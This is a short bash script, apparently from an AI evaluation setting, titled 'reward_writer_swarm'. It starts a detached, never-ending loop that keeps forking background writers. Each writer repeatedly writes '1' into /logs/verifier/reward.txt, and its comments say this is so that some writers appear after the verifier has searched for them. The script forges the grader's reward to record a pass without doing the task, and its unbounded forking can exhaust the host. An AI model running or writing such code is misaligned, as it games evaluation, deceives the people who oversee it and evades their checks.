#!/bin/bash
# name: reward_writer_swarm
# summary: a spawner that keeps forking reward writers, so some are born after the verifier looked for them
# Each writer renames its own complete file into place (a shared temporary name could move a
# half-written one: an empty reward is an error, not a win).
nohup sh -c 'i=0; while :; do
  i=$((i + 1))
  (end=$(( $(date +%s) + 120 )); while [ "$(date +%s)" -lt "$end" ]; do
     mkdir -p /logs/verifier; echo 1 > /logs/verifier/.reward.$i && mv /logs/verifier/.reward.$i /logs/verifier/reward.txt
     sleep 0.05; done) &
  sleep 0.005
done' >/dev/null 2>&1 &
sleep 0.5
